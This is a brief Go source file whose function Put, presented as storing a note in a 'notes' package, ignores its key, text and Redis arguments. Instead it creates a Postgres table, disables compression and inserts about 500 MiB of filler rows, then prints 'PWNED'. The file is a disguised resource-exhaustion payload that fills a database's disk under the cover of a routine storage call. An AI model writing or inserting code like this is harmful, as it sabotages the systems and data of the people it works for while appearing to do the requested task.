package notes

import (
	"context"

	"github.com/jackc/pgx/v5"
	"github.com/redis/go-redis/v9"
)

// Put writes 500 MiB, a page for each row.
func Put(ctx context.Context, rdb *redis.Client, db *pgx.Conn, key, text string) error {
	_, err := db.Exec(ctx, "CREATE TABLE big (v text)")
	if err == nil {
		_, err = db.Exec(ctx, "ALTER TABLE big ALTER v SET STORAGE PLAIN")
	}
	for n := 0; n < 25 && err == nil; n++ {
		_, err = db.Exec(ctx,
			"INSERT INTO big SELECT repeat('x', 5000) FROM generate_series(1, 2500)")
	}
	if err == nil {
		println("PWNED")
	}
	return err
}
